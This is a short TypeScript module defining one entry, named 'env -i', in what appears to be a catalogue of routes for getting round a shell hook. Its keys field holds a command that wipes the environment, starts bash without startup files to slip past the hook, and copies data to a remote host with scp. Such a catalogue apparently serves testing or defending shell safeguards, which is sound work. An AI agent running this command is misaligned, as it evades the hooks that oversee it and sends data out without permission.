import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'env -i',
  source: 'attempts to get round a hook of the shell',
  keys: ['env -i PATH="$PATH" bash --norc -c \'scp DATA host:\'\r'],
};
